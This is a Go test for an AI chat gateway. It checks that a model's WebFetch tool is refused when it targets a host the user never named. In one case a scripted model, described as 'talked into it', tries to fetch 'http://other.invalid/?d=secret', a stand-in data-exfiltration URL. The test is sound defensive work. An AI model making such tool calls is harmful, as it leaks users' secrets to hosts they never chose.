package main

import (
	"errors"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"gatehouse/configs"
	"gatehouse/configs/values"
	"gatehouse/core"
	"gatehouse/core/llm/llmtest"
	"gatehouse/web/auth"
)

// A model that was talked into it sends what it knows to a host of its own
// choice: over the whole gateway, the call is made only where the person named
// the host. Nobody can be asked here, so the others are refused.
func TestWebFetch_OnlyHostsThatThePersonNamed(t *testing.T) {
	model := llmtest.New(t, llmtest.Options{Key: modelKey})
	w := newWorld(t, func(c *configs.Config) {
		c.Model, c.OpenaiBaseURL, c.OpenaiAPIKey = fakeModel, model.URL(), values.NewSecret(modelKey)
	})
	secret, _, err := w.app.keys.Create(t.Context(), auth.NewKey{Label: "k", User: core.Operator, Trust: core.Vault, Scopes: []string{auth.ScopeChat, auth.ScopeRead}}, cli)
	if err != nil {
		t.Fatal(err)
	}
	say := func(text, fetch string) string {
		t.Helper()
		model.Script(called(use("WebFetch", "url", fetch))...)
		resp := w.open("POST", "/api/chat", map[string]any{"message": text}, http.Header{"Authorization": {"Bearer " + secret}, "Accept": {"application/json"}})
		defer resp.Body.Close()
		b, err := io.ReadAll(resp.Body)
		if err != nil || resp.StatusCode != http.StatusOK {
			t.Fatal(resp.StatusCode, err, string(b))
		}
		return string(b)
	}
	transcript := func() (text string) {
		t.Helper()
		files, err := filepath.Glob(filepath.Join(w.cfg.VaultPath, ".claude/projects/*/*.jsonl"))
		for _, name := range files {
			b, e := os.ReadFile(name)
			text, err = text+string(b), errors.Join(err, e)
		}
		if err != nil {
			t.Fatal(err)
		}
		return text
	}
	say("read the page http://localhost:1/ for me", "http://localhost:1/a")
	if got := transcript(); !strings.Contains(got, "localhost leads to an address that is not public") {
		t.Errorf("a host that the person named was not tried: %s", got)
	}
	say("read the page http://localhost:1/ for me", "http://other.invalid/?d=secret")
	if got := transcript(); !strings.Contains(got, "wants to open http://other.invalid/?d=secret") || !strings.Contains(got, "no one can be asked here") || strings.Contains(got, "there is no host other.invalid") {
		t.Errorf("another host: %s", got)
	}
}
